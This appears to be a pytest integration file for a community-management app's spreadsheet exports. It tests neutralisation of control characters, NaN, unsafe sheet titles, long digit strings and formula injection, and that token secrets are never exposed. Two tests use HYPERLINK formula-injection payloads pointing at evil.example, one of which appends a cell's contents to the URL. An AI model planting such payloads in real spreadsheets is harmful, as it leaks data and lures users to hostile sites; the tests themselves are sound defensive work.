"""Every spreadsheet export survives any text a unit can record: control characters, sheet
titles Excel refuses, and text a spreadsheet would run as a formula; on both stores. The
commands now refuse control characters and NaN, but a store recorded before that may hold
them, so such units are recorded here as an older release let them in (unvalidated)."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from sansan.access import token_id_of
from sansan.api.exports import table_csv, table_xlsx
from sansan.cells import csv_text
from sansan.commands import Command
from sansan.commands.community import OpenCultureFacility
from sansan.commands.member import LogVolunteerService, RegisterMember
from sansan.demo import demo_id
from sansan.domain.vocabulary import CultureFacilityKind, MemberCategory
from tests.integration.api_support import bearer

CAMPAIGN = demo_id("campaign", "示范县")
TIEXI = demo_id("community", "铁西")
BRANCH = demo_id("org", "铁西第1小区党支部")
CHENGGUAN = demo_id("org", "城关街道")
Demo = tuple[TestClient, dict[str, str]]
ON = "2026-04-01"  # after the demo's launch, before any day the suite runs on


def record(client: TestClient, token: str, path: str, body: dict[str, Any]) -> Any:
    response = client.post(f"/api/v1{path}", json={"occurred_on": ON} | body, headers=bearer(token))
    assert response.status_code in (200, 201), response.text
    client.app.state.services.projections.catch_up()  # type: ignore[attr-defined]
    return response.json()["aggregate_id"]


def record_unchecked(client: TestClient, command: Command) -> None:
    """Record what the API now refuses, as a store written by an older release holds it."""
    services = client.app.state.services  # type: ignore[attr-defined]
    services.app.execute(command, actor="community:铁西社区党总支（演示）")
    services.projections.catch_up()


def register_unchecked(client: TestClient, name: str) -> None:
    record_unchecked(client, RegisterMember.model_construct(
        occurred_on=date.fromisoformat(ON), name=name, category=MemberCategory.DIRECT,
        organization_id=BRANCH,
    ))  # fmt: skip


def download(client: TestClient, token: str, path: str, fmt: str) -> bytes:
    response = client.get(
        f"/api/v1{path}", params={"format": fmt, "as_of": "2026-11-27"}, headers=bearer(token)
    )
    assert response.status_code == 200, response.text
    return response.content


def sheet_of(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def failing_cell(rows: list[list[Any]], target: str) -> Any:
    """The failing units of a target, found by its Chinese title (the exports name no ids)."""
    return next(row[9] for row in rows if row[0] == target)


EXPORTS = (f"/campaigns/{CAMPAIGN}/progress", f"/communities/{TIEXI}/scorecard")


def test_a_member_named_with_a_control_character_does_not_break_progress_or_scorecard_exports(
    demo: Demo,
) -> None:
    client, tokens = demo
    register_unchecked(client, "a\u0007b")
    for path in EXPORTS:
        for role in ("county", "street", "community"):
            sheet = sheet_of(download(client, tokens[role], path, "xlsx"))
            listed = failing_cell([[c.value for c in r] for r in sheet.iter_rows()], "党员年度培训")
            assert "a\ufffdb（铁西社区）：" in listed, (path, role)
            as_csv = failing_cell(csv_rows(download(client, tokens[role], path, "csv")), "党员年度培训")
            assert "a\ufffdb（铁西社区）：" in as_csv, (path, role)
            assert "\u0007" not in as_csv, (path, role)


def test_a_community_named_with_a_slash_gets_its_scorecard_as_xlsx_under_a_safe_sheet_title(
    demo: Demo,
) -> None:
    client, tokens = demo
    name = "新区/一社区:[试点]*?\\" + "很长" * 20
    created = record(
        client, tokens["county"], "/communities", {"name": name, "street_committee_id": str(CHENGGUAN)}
    )
    sheet = sheet_of(download(client, tokens["county"], f"/communities/{created}/scorecard", "xlsx"))
    assert sheet.title.startswith("新区_一社区__试点____很长")
    assert len(sheet.title) == 31


def test_text_that_starts_like_a_formula_is_text_in_xlsx_and_quoted_in_csv(demo: Demo) -> None:
    client, tokens = demo
    formula = '=HYPERLINK("http://evil.example","x")'
    created = record(
        client, tokens["county"], "/communities", {"name": formula, "street_committee_id": str(CHENGGUAN)}
    )
    path = f"/communities/{created}/scorecard"
    cells = [c for row in sheet_of(download(client, tokens["county"], path, "xlsx")).iter_rows() for c in row]
    leading = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
    assert leading
    assert {c.data_type for c in leading} == {"s"}
    texts = [v for row in csv_rows(download(client, tokens["county"], path, "csv")) for v in row]
    assert any(v.startswith("'=HYPERLINK") for v in texts)
    assert not any(v.startswith("=") for v in texts)


def test_the_audit_spreadsheet_keeps_positions_as_numbers_and_recorded_text_escaped(demo: Demo) -> None:
    client, tokens = demo
    register_unchecked(client, "@SUM(1+1)\u0001")
    params = {"event_type": "MemberRegistered", "format": "xlsx", "community_id": str(TIEXI)}
    response = client.get("/api/v1/audit/spreadsheet", params=params, headers=bearer(tokens["auditor"]))
    assert response.status_code == 200, response.text
    rows = list(sheet_of(response.content).iter_rows(min_row=3))  # below the title and the header
    assert rows
    assert all(row[0].data_type == "n" for row in rows)
    # recorded text as labelled words, the control character replaced, stored as text
    assert any("名称：@SUM(1+1)\ufffd" in str(row[14].value) for row in rows)
    assert {row[14].data_type for row in rows} == {"s"}


def test_each_leading_formula_character_is_neutralized_and_negative_numbers_stay_numbers() -> None:
    texts = ["=1+2", "+1", "-1", "@x", "\tx", "\rx"]
    table: list[list[object]] = [[text, -3, -1.5] for text in texts]
    sheet = sheet_of(table_xlsx("t", ["文本", "整数", "小数"], table, [10, 10, 10]))
    for text, row in zip(texts, sheet.iter_rows(min_row=2), strict=True):
        # XML reads a stored CR back as LF; what matters is that it is text
        assert row[0].data_type == "s"
        assert row[0].value.lstrip() == text.lstrip()
        assert (row[1].value, row[1].data_type, row[2].value, row[2].data_type) == (-3, "n", -1.5, "n")
    rows = csv_rows(table_csv(["文本", "整数", "小数"], table))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in texts]
    assert {(r[1], r[2]) for r in rows[1:]} == {("-3", "-1.5")}


def test_progress_and_scorecard_files_open_with_a_title_row_chinese_names_and_numeric_figures(
    demo: Demo,
) -> None:
    client, tokens = demo
    standards = (("每个社区10,000元", '"每个社区"#,##0"元"'), ("10,000元", '#,##0"元"'))
    for path, report, (standard, shown_as) in zip(
        EXPORTS, ("创建工程进度", "铁西社区记分卡"), standards, strict=True
    ):
        heading = f"示范县三三创建工程·{report}（评估日期：2026-11-27）"
        sheet = sheet_of(download(client, tokens["county"], path, "xlsx"))
        assert sheet["A1"].value == heading, path
        assert sheet["A1"].font.bold
        assert sheet.freeze_panes == "A3"
        assert [c.value for c in sheet[2]][:6] == ["目标", "条款", "状态", "实测值", "达标程度", "标准"]
        table = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
        funding = table["社区办公经费"]  # a title, never the id "funding"
        assert not any(str(c.value) in {"funding", "network", "member-training"} for row in table.values() for c in row)
        assert (funding[4].data_type, funding[5].data_type) == ("n", "n")
        assert (funding[5].value, funding[5].number_format) == (10000, shown_as)  # as on the page
        assert funding[6].is_date
        assert funding[6].value.date().isoformat() == "2026-12-31"
        as_csv = csv_rows(download(client, tokens["county"], path, "csv"))
        assert as_csv[0] == [heading]
        assert as_csv[1][:6] == ["目标", "条款", "状态", "实测值", "达标程度", "标准"]
        row = next(r for r in as_csv if r[0] == "社区办公经费")
        assert (row[5], row[6]) == (standard, "2026-12-31")


def test_the_audit_spreadsheet_reads_in_chinese_with_names_and_beijing_time(demo: Demo) -> None:
    client, tokens = demo
    params = {"aggregate_id": str(TIEXI)}
    listed = client.get("/api/v1/audit", params=params | {"limit": 200, "order": "oldest"}, headers=bearer(tokens["county"]))
    entries = listed.json()["items"]
    response = client.get(
        "/api/v1/audit/spreadsheet", params=params | {"format": "xlsx"}, headers=bearer(tokens["auditor"])
    )
    assert response.status_code == 200, response.text
    sheet = sheet_of(response.content)
    assert str(sheet["A1"].value).startswith("审计日志（导出时间：")  # the title row of a filed copy
    assert sheet["B1"].value is None
    header = [c.value for c in sheet[2]]
    assert header[2] == "单位"
    assert header[4] == "事件"
    assert header[6:10] == ["记录人", "令牌编号", "发生日期", "记录时间（北京时间）"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
    assert [row[0] for row in rows] == [e["position"] for e in entries]
    for row, entry in zip(rows, entries, strict=True):
        assert row[2] == "铁西社区"
        assert row[4]
        assert not row[4].isascii()  # the event's Chinese name, never its type
        utc = datetime.fromisoformat(entry["recorded_at"]).astimezone(UTC)
        assert row[9] == (utc + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M")
        assert row[9] != utc.strftime("%Y-%m-%d %H:%M")  # never the UTC clock
        assert row[10] == "铁西社区"


MEMBER = demo_id("member", "铁西-1")


def test_a_member_named_with_a_control_character_does_not_break_the_filled_templates(
    demo: Demo,
) -> None:
    client, tokens = demo
    register_unchecked(client, "a\u0007bell")
    for role in ("county", "street", "community", "auditor"):
        for kind in ("members", "all"):
            response = client.get(
                f"/api/v1/imports/templates/{kind}", params={"filled": "true"},
                headers=bearer(tokens[role]),
            )  # fmt: skip
            assert response.status_code == 200, (role, kind, response.text)
            book = load_workbook(io.BytesIO(response.content))
            names = [row[0] for row in book["党员"].iter_rows(min_row=2, values_only=True)]
            assert "a\ufffdbell" in names, (role, kind)


def test_a_member_named_like_a_formula_stays_text_in_the_filled_templates(demo: Demo) -> None:
    """openpyxl stores text beginning with "=" as a formula: Excel would run it on opening
    (outside review, finding 29); the other spreadsheet starters are text already."""
    client, tokens = demo
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert client.post("/api/v1/members", json={
        "occurred_on": ON, "name": payload, "category": "direct", "organization_id": str(BRANCH),
    }, headers=bearer(tokens["community"])).status_code == 201  # fmt: skip
    response = client.get(
        "/api/v1/imports/templates/all", params={"filled": "true"}, headers=bearer(tokens["county"])
    )
    assert response.status_code == 200, response.text
    cells = [c for row in load_workbook(io.BytesIO(response.content))["党员"].iter_rows(min_row=2)
             for c in row if c.value == payload]  # fmt: skip
    assert cells
    assert all(c.data_type == "s" for c in cells)


def test_a_nan_recorded_before_it_was_refused_exports_as_invalid_number(demo: Demo) -> None:
    client, tokens = demo
    nan = float("nan")
    record_unchecked(client, LogVolunteerService.model_construct(
        occurred_on=date.fromisoformat(ON), member_id=MEMBER, hours=nan, activity="巡逻",
    ))  # fmt: skip
    record_unchecked(client, OpenCultureFacility.model_construct(
        occurred_on=date.fromisoformat(ON), community_id=TIEXI, kind=CultureFacilityKind.LIBRARY, area_m2=nan,
    ))  # fmt: skip
    auditor = bearer(tokens["auditor"])
    for params in ({}, {"aggregate_id": str(MEMBER)}, {"aggregate_id": str(TIEXI)}):
        as_csv = client.get("/api/v1/audit/spreadsheet", params=params | {"format": "csv"}, headers=auditor)
        assert as_csv.status_code == 200, as_csv.text
        assert "无效数值" in as_csv.content.decode("utf-8-sig"), params
        as_xlsx = client.get("/api/v1/audit/spreadsheet", params=params | {"format": "xlsx"}, headers=auditor)
        assert as_xlsx.status_code == 200, as_xlsx.text
        cells = [str(c) for row in sheet_of(as_xlsx.content).iter_rows(values_only=True) for c in row]
        assert any("无效数值" in c for c in cells), params


def test_cells_that_no_spreadsheet_can_hold_are_written_as_words() -> None:
    table = [["a\u0007b", float("nan"), float("inf"), 1.5]]
    as_csv = csv_rows(table_csv(["名称", "甲", "乙", "丙"], table))
    assert as_csv[1] == ["a\ufffdb", "无效数值", "无效数值", "1.5"]
    sheet = sheet_of(table_xlsx("表", ["名称", "甲", "乙", "丙"], table, [10] * 4))
    assert [c.value for c in sheet[2]] == ["a\ufffdb", "无效数值", "无效数值", 1.5]


def test_the_audit_spreadsheet_says_the_role_beside_a_token_s_label(demo: Demo) -> None:
    """A community token labelled like the county's office is not read as the county's."""
    client, tokens = demo
    services = client.app.state.services  # type: ignore[attr-defined]
    token, _ = services.access.issue_token(
        # not the demo county's own label: a live token's label is its alone (review 2, #23)
        role="community", scope_org_id=demo_id("org", "铁西社区党总支"), label="县委组织部",
        actor="t",
    )  # fmt: skip
    record(client, token, f"/members/{demo_id('member', '铁西-1')}/volunteer-services",
           {"hours": 2, "activity": "冒名"})  # fmt: skip
    response = client.get("/api/v1/audit/spreadsheet", params={"format": "csv"},
                          headers=bearer(tokens["auditor"]))  # fmt: skip
    rows = csv_rows(response.content)
    header = rows[0] if rows[0][0] == "日志位置" else rows[1]
    actor, content = header.index("记录人"), header.index("内容")
    said = {r[actor] for r in rows if "冒名" in r[content]}
    assert said == {"县委组织部（社区党组织）"}


def test_two_tokens_of_one_label_are_told_apart_by_their_numbers_never_their_secrets(
    demo: Demo,
) -> None:
    """The actor is the role and the label, the same for both tokens; the audit says which
    token recorded each entry by its number (the start of the id ``sansan token list``
    shows), in a column of its own, in the list the web UI shows, and never the token.
    A label is unique among live tokens (review 2, #23): the second is issued once the first
    is revoked, as when a token is rotated."""
    client, tokens = demo
    services = client.app.state.services  # type: ignore[attr-defined]
    issued = []
    for n in range(2):
        token, token_id = services.access.issue_token(
            role="community", scope_org_id=demo_id("org", "铁西社区党总支"), label="铁西值班员",
            actor="t",
        )  # fmt: skip
        issued.append((token, token_id))
        record(client, token, f"/members/{demo_id('member', '铁西-1')}/volunteer-services",
               {"hours": 2, "activity": f"值班{n}"})  # fmt: skip
        services.access.revoke_token(token_id, reason="轮换", actor="t")
    numbers = [str(token_id)[:8] for _, token_id in issued]
    response = client.get("/api/v1/audit/spreadsheet", params={"format": "csv"},
                          headers=bearer(tokens["auditor"]))  # fmt: skip
    rows = csv_rows(response.content)
    header = rows[0] if rows[0][0] == "日志位置" else rows[1]
    at, content = header.index("令牌编号"), header.index("内容")
    by_activity = {f"值班{n}": r for r in rows for n in range(2) if f"值班{n}" in r[content]}
    # as Excel must keep them: a number like 58e08938 (hex digits) is marked as text
    assert [by_activity[f"值班{n}"][at] for n in range(2)] == [csv_text(n) for n in numbers]
    assert {by_activity[f"值班{n}"][at - 1] for n in range(2)} == {"铁西值班员（社区党组织）"}
    assert all("令牌编号" not in r[content] for r in by_activity.values())  # not again in 内容
    demo_rows = [r for r in rows[2:] if r[at - 1] == "县委组织部（演示）"]
    assert demo_rows
    assert all(r[at] == "" for r in demo_rows)  # the demo was recorded by no token
    head = services.app.recorder.max_notification_id()  # the export's read of personal data
    listed = client.get("/api/v1/audit", params={"limit": 20, "after": head},
                        headers=bearer(tokens["county"]))  # fmt: skip
    items = listed.json()["items"]
    shown = [i["data"]["token_no"] for i in items if i["event_type"] == "VolunteerServiceLogged"]
    assert sorted(shown) == sorted(numbers)
    read = next(i for i in items if i["event_type"] == "PersonalDataRead")  # the export's own
    assert read["data"]["token_no"] == str(token_id_of(tokens["auditor"]))[:8]
    text = response.content.decode("utf-8-sig") + listed.text
    assert all(token not in text for token, _ in issued)


def test_digits_excel_would_cut_stay_whole_in_csv_and_formulas_stay_inert() -> None:
    """Review #2 finding 7: 000123, an 18-digit number and 1234e567 opened in Excel as 123,
    1.10101E+17 and a number: a leading tab keeps them text; what loses nothing is left."""
    texts = ["000123", "0012", "110101199001011234", "123456789012", "1234e567", "12", "2026",
             "12345678901", "-3", "=0012", "铁西0012"]  # fmt: skip
    rows = csv_rows(table_csv(["文本"], [[t] for t in texts]))
    assert [r[0] for r in rows[1:]] == [
        "\t000123", "\t0012", "\t110101199001011234", "\t123456789012", "\t1234e567", "12",
        "2026", "12345678901", "'-3", "'=0012", "铁西0012",
    ]  # fmt: skip


def test_the_audit_csv_keeps_an_evidence_number_and_a_long_note_whole(demo: Demo) -> None:
    client, tokens = demo
    member = demo_id("member", "铁西-1")
    record(client, tokens["community"], f"/members/{member}/trainings", {
        "days": 1, "method": "lecture", "topic": "0012", "evidence_ref": "000123",
        "note": "110101199001011234",
    })  # fmt: skip
    params = {"format": "csv", "aggregate_id": str(member)}
    answer = client.get("/api/v1/audit/spreadsheet", params=params, headers=bearer(tokens["auditor"]))
    assert answer.status_code == 200, answer.text
    last = csv_rows(answer.content)[-1]
    assert {"\t000123", "\t110101199001011234"} <= set(last)
    assert not {"000123", "110101199001011234"} & set(last)
